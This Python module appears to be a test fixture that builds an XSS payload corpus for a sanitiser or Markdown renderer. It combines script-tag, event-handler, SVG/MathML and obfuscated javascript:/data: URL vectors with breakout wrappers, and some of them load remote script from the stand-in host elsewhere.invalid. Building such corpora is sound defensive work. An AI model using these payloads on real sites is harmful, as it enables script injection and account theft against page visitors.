"""What somebody writes who would like their own code to run on the page of whoever reads it: each of many vectors in many
wrappings. A piece that runs sets `__ran`; one that loads something calls a house that nobody may call."""

from itertools import product

RUN = "top.__ran=1"
ELSEWHERE = "elsewhere.invalid"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=//{ELSEWHERE}/pixel.gif>",
    f"<image/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href=//{ELSEWHERE}/x.svg#x /></svg>",
    f"<svg><style><img title='</style><img src=x onerror={RUN}>'></style></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>m</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=//{ELSEWHERE}/x.swf>",
    f"<details open ontoggle={RUN}>d</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<video autoplay onloadstart={RUN}><source src=x></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<body onload={RUN}>",
    f"<div onpointerenter={RUN} style=position:fixed;inset:0>d</div>",
    f"<div style=background:url(//{ELSEWHERE}/b.gif)>d</div>",
    f"<style>@import '//{ELSEWHERE}/s.css';</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/s.css>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button autofocus>b</button></form>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>a</a>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<x contenteditable autofocus onfocus={RUN}>x</x>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#x0A;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript:%74op.__ran=1//https://{ELSEWHERE}/",
    f"\x01javascript:{RUN}",
    f"%6Aavascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:javascript:{RUN}",
    f'https://{ELSEWHERE}/"onmouseover="{RUN}',
    f"https://{ELSEWHERE}/'onfocus='{RUN}'autofocus='",
    f'/help/x" onfocus="{RUN}" autofocus="',
    f"//{ELSEWHERE}/",
)

AROUND = {
    "alone": "{}",
    "out of an attribute": '">{}',
    "out of the other attribute": "' >{}",
    "out of a text box": "</textarea></title></style></script>{}",
    "out of a comment": "--><!-- -->{}",
    "out of foreign content": "]]></math></svg>{}",
    "emphasised": "**_{}_**",
    "listed": "- one\n  - {}\n1. two",
    "quoted": "> > {}",
    "in a heading": "## {}\n\nbelow",
    "in a table": "| a | b |\n|---|---|\n| {} | `x` |",
    "in code": "`{}` and ``{}``",
    "in a fence": '```js" onload="x\n{}\n```',
    "in half a fence": "~~~\n{}",
    "in a link's text": f"[{{}}](https://{ELSEWHERE}/)",
    "in a half link": "[begun {}](",
}
LINKED = {
    "a link": "[press]({})",
    "a link in brackets": "[press](<{}>)",
    "a link with a title": '[press]({} "title")',
    "an image": "![seen]({})",
    "a reference": "[press][r]\n\n[r]: {}",
    "itself": "<{}>",
    "bare": "see {} there",
}


def _around(frame: str, piece: str) -> str:
    return frame.replace("{}", piece)


BY_ELEMENT = tuple(  # every other wrapping, and the others for the next one
    _around(frame, piece)
    for (one, piece), (other, frame) in product(enumerate(ELEMENTS), enumerate(AROUND.values()))
    if (one + other) % 2 == 0
)
BY_ADDRESS = tuple(_around(frame, piece) for piece, frame in product(ADDRESSES, LINKED.values()))
PAYLOADS = BY_ELEMENT + BY_ADDRESS
FEWER = PAYLOADS[::5]  # where each takes its time
